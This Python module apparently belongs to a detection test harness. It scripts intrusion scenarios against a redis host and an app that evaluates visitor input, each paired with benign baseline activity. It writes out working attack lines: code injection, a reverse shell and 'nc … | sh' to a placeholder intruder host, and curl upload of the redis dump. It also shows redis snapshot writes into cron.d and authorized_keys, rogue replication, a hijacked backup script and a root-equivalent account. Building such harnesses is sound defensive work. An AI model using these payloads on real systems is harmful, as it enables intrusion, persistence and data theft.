# SPDX-License-Identifier: Apache-2.0
"""What an intruder does on a host with redis and its application: code that the application evaluates, and redis itself, which
is open to its network."""

import urllib.parse

from intruder import ADDRESS, INTRUDER, SHELL, WEB, change, define, operator, request, unit

METADATA = "169.254.169.254"


def evaluate(code):
    """The application takes a sum from a visitor, and any other expression."""
    return lambda host, rng: request(host, f"http://{ADDRESS}:8000/sum={urllib.parse.quote(code, safe='')}")


def command(script):
    return evaluate(f"__import__('os').system({script!r})")


def sums(host, rng):
    request(host, f"http://{ADDRESS}:8000/{rng.randrange(9)}")


def commands(*lines):
    return lambda host, rng: [host.client("redis-cli", "-h", ADDRESS, *line.split(" "), check=False) for line in lines]


def into(folder, name):
    """A snapshot as a file of another kind, as if redis were an editor; and back."""
    return commands("set x padding", f"config set dir {folder}", f"config set dbfilename {name}", "save", "config set dir /var/lib/redis",
                    "config set dbfilename dump.rdb", "del x")


def unprotected(host):
    host.write("/etc/systemd/system/redis-server.service.d/open.conf", "[Service]\nReadWritePaths=/etc/cron.d\n")
    host.prepare("echo 'enable-protected-configs yes' >>/etc/redis/redis.conf; chmod 777 /etc/cron.d; install -d -o redis /var/lib/redis/.ssh")


def with_metadata(host):
    host.prepare(f"ip address replace {METADATA}/32 dev lo")


SHELLED = (f"(lambda s,p,o: (s.connect(('{INTRUDER}',{SHELL})), [o.dup2(s.fileno(), n) for n in (0,1,2)], p.call(['/bin/sh'])))"
           "(__import__('socket').socket(), __import__('subprocess'), __import__('os'))")

def in_backup(line):
    """By a login that was stolen, the nightly backup does something more."""
    def attack(host, rng):
        host.operate(f"sudo cp -p /usr/local/bin/redis-backup /opt/; echo '{line}' | sudo tee -a /usr/local/bin/redis-backup")
        host.unit("redis-backup.service", check=False)
        host.operate("sudo mv /opt/redis-backup /usr/local/bin/redis-backup")
    return attack


def deployed_backup(host, rng):
    change("touch -c /usr/local/bin/redis-backup")(host, rng)
    host.unit("redis-backup.service")


define(
    globals(), "redis",
    ("code injection", "the application evaluates what a visitor sends: a sum, or a command", evaluate("__import__('os').popen('id').read()"), sums),
    ("code injection with builtins", "a shell that starts nothing", command("read -r l </etc/passwd; echo $l"), sums),
    ("code injection that reads a file", "nothing but the interpreter itself", evaluate("open('/etc/passwd').read()"), sums),
    ("code injection that calls home", "", evaluate(f"__import__('socket').create_connection(('{INTRUDER}',{SHELL}),2).send(b'x')"), sums),
    ("code injection with a web client", "at a port that anyone uses", evaluate(f"__import__('urllib.request').request.urlopen('{WEB}/x').read()"), sums),
    ("cloud's credentials by the application", "", evaluate(f"__import__('socket').create_connection(('{METADATA}',80),1)"), sums, with_metadata),
    ("shell by the application's interpreter", "", evaluate(SHELLED), unit("redis-metrics.service")),
    ("terminal for a shell", "", command("python3 -c 'import pty; pty.spawn([\"/bin/sh\",\"-c\",\"id\"])'"), unit("redis-report.service")),
    ("module of the interpreter as a server", "", command("timeout 1 python3 -m http.server 8099"), sums),
    ("program of the application's own directory", "", command(f"cd /tmp && mkdir -p .cache-app && cp /bin/sleep .cache-app/app-worker && .cache-app/app-worker 0.2; rm -r .cache-app"), sums),
    ("redis keys dumped", "by the client's program, as the application", command("redis-cli --scan; redis-cli info"), unit("redis-report.service")),
    ("redis writes a job", "by its snapshots, into cron.d", into("/etc/cron.d", "x"), commands("bgsave"), unprotected),
    ("redis writes a key", "by its snapshots, for ssh", into("/var/lib/redis/.ssh", "authorized_keys"), commands("config set maxmemory 60mb", "config rewrite"),
     unprotected),
    ("redis writes a library", "by its snapshots, to be loaded as a module", into("/var/lib/redis", "exp.so"), commands("bgrewriteaof"), unprotected),
    ("redis becomes a replica", "of the intruder's machine", commands(f"replicaof {INTRUDER} {SHELL}", "ping", "replicaof no one"), commands("set a b")),
    ("job's script changed", "the nightly backup sends its file away",
     in_backup(f"curl -s -m 3 -T /var/lib/redis/dump.rdb {WEB}/dump"), deployed_backup),
    ("job's script calls", "the nightly backup gives a shell away", in_backup(f"nc {INTRUDER} {SHELL} </etc/hostname | sh"), unit("redis-backup.service")),
    ("job's script with a program of its own", "the nightly backup starts what lies in a home", in_backup("cp /bin/sleep /root/.updater; /root/.updater 0.1"),
     unit("redis-backup.service")),
    ("all keys deleted", "by a client that may do so", commands("flushall"), commands("set a b", "del a")),
    ("configuration replaced by the operator's hand", "an intruder with a stolen login adds an account", command("useradd -o -u 0 x; chpasswd </dev/null"),
     operator("sudo redis-cli config get maxmemory; sudo passwd -S root")),
    natures={
        "code injection that reads a file": "the interpreter reads a file, as it always does",
        "all keys deleted": "a client says what clients may say",
    },
)
